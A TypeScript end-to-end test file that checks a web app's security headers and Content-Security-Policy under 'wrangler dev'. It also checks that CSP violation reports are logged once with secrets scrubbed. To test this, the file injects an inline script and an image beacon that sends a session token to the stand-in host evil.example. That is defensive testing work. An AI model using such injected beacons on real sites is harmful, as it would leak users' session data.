import { describe, expect, test } from 'vitest'
import {
  cspViolations,
  hasChromium,
  useDevStackAndBrowser,
} from '../support/browser'
import { hydrated } from '../support/pages'
import {
  expectFullSecurityHeaders,
  expectScriptsNonced,
  nonceOf,
} from '../support/security-headers'

// The Content-Security-Policy as a browser meets it, on real `wrangler dev` (Static Assets
// included): static files carry the same headers as pages, our own pages run under the policy
// without a single violation, and a violation Chromium reports reaches POST /api/csp-report and is
// logged once, scrubbed. `wrangler dev` serves plain http, where the policy names `report-uri` only
// (workers/security-headers.ts says why), so Chromium posts application/csp-report here; over https
// it uses `report-to` (application/reports+json), whose format tests/integration/csp-report.test.ts
// posts.
const INJECTED = [
  /^script-src-elem blocked inline on \/login$/,
  /^img-src blocked http:\/\/evil\.example\/pixel\.gif on \/login$/,
]
const e2e = useDevStackAndBrowser({
  appPort: 8877,
  webhooksPort: 8878,
  hmsPort: 8879,
  allowedCspViolations: INJECTED,
})

const url = (path: string) => new URL(path, e2e.stack.appUrl).href
const SECRET = 's3cr3t-token'

describe('wrangler dev', () => {
  test('a static file and a fingerprinted build file carry the full set (public/_headers)', async () => {
    const favicon = await fetch(url('/favicon.svg'))
    expect(favicon.status).toBe(200)
    expectFullSecurityHeaders(
      favicon.headers,
      { nonce: false, https: true },
      'favicon',
    )

    const page = await fetch(url('/'))
    expectFullSecurityHeaders(
      page.headers,
      { nonce: true, https: false },
      'landing page',
    )
    const html = await page.text()
    expectScriptsNonced(html, nonceOf(page.headers)!)
    const asset = /href="(\/build\/[^"]+\.css)"/.exec(html)?.[1]
    const css = await fetch(url(asset!))
    expect(css.status).toBe(200)
    expectFullSecurityHeaders(css.headers, { nonce: false, https: true }, asset)
  })
})

describe.skipIf(!hasChromium)('the CSP in Chromium', () => {
  test('our page runs without a violation; injected ones are refused, reported to /api/csp-report and logged once, scrubbed', async () => {
    const page = await e2e.browser.newPage()
    const consoleErrors: string[] = []
    page.on('console', (message) => {
      if (message.type() === 'error') consoleErrors.push(message.text())
    })
    page.on('pageerror', (error) => consoleErrors.push(error.message))

    // A query string that must never reach a log line.
    await page.goto(url(`/login?redirectTo=%2Fdashboard&token=${SECRET}`))
    await hydrated(page)
    expect(consoleErrors).toEqual([])

    const from = e2e.logs().length
    await page.evaluate((secret) => {
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.body.appendChild(script)
      const image = new Image()
      image.src = `http://evil.example/pixel.gif?session=${secret}`
      document.body.appendChild(image)
    }, SECRET)
    expect(await page.evaluate(() => 'injected' in window)).toBe(false)

    const reported = () => cspViolations(e2e.logs().slice(from))
    const deadline = Date.now() + 15_000
    while (reported().length < 2 && Date.now() < deadline)
      await new Promise((resolve) => setTimeout(resolve, 200))
    // A little longer: a second line for the same violation would show up now.
    await new Promise((resolve) => setTimeout(resolve, 2_000))
    const violations = reported().sort()
    expect(violations).toHaveLength(2)
    expect(violations[0]).toMatch(INJECTED[1]!)
    expect(violations[1]).toMatch(INJECTED[0]!)
    const lines = e2e
      .logs()
      .slice(from)
      .filter((line) => line.includes('CSP violation'))
    // Logged once each by the Worker, and received once each by the dev stack's fake Sentry (its
    // lines are prefixed `[sentry]`): both scrubbed.
    expect(lines.filter((line) => !line.includes('[sentry]'))).toHaveLength(2)
    expect(lines.filter((line) => line.includes('[sentry]'))).toHaveLength(2)
    for (const line of lines) {
      expect(line).not.toContain(SECRET)
      expect(line).not.toContain('redirectTo')
    }
    // The page said so in its console too, and nothing else went wrong.
    expect(consoleErrors).toHaveLength(2)
    for (const problem of consoleErrors)
      expect(problem).toContain('Content Security Policy')
    await page.close()
  })
})
